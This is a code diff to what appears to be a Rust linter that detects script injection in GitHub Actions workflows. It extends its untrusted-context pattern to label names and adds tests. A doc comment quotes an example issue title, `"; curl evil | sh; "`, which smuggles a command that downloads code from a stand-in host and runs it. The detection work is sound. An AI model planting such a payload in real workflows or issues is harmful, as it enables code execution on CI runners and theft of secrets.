@@ -4,7 +4,8 @@
 //! GitHub substitutes `${{ }}` into the script text before the shell or Node reads it, so an
 //! issue title such as `"; curl evil | sh; "` becomes code. The finding points at the
 //! expression itself. Only contexts an outsider can set are reported: titles, bodies, branch
-//! names, commit messages and author fields of events.
+//! names, label names, commit messages and author fields of events. Workflow inputs,
+//! `github.ref_name` and `github.base_ref` need write access to set and are not reported.
 
 use std::sync::LazyLock;
 
@@ -34,6 +35,7 @@ static UNTRUSTED: LazyLock<Option<Regex>> = LazyLock::new(|| {
         r"(?:issue|pull_request|discussion)\.(?:title|body)\b|",
         r"(?:comment|review|review_comment)\.body\b|",
         r"pull_request\.head\.(?:ref|label|repo\.default_branch)\b|",
+        r"label\.name\b|pull_request\.labels\b|",
         r"(?:head_commit|workflow_run\.head_commit)\.(?:message|author\.(?:email|name))\b|",
         r"commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))\b|",
         r"workflow_run\.(?:head_branch|display_title)\b|",
@@ -119,5 +121,8 @@ mod tests {
         assert!(untrusted_context("${{ github.event.pull_request.head.sha }}").is_none());
         assert!(untrusted_context("${{ github.event.pull_request.number }}").is_none());
         assert!(untrusted_context("${{ github.event.commits[0].message }}").is_some());
+        assert!(untrusted_context("${{ github.event.label.name }}").is_some());
+        assert!(untrusted_context("${{ toJSON(github.event.pull_request.labels) }}").is_some());
+        assert!(untrusted_context("${{ inputs.version }}").is_none());
     }
 }
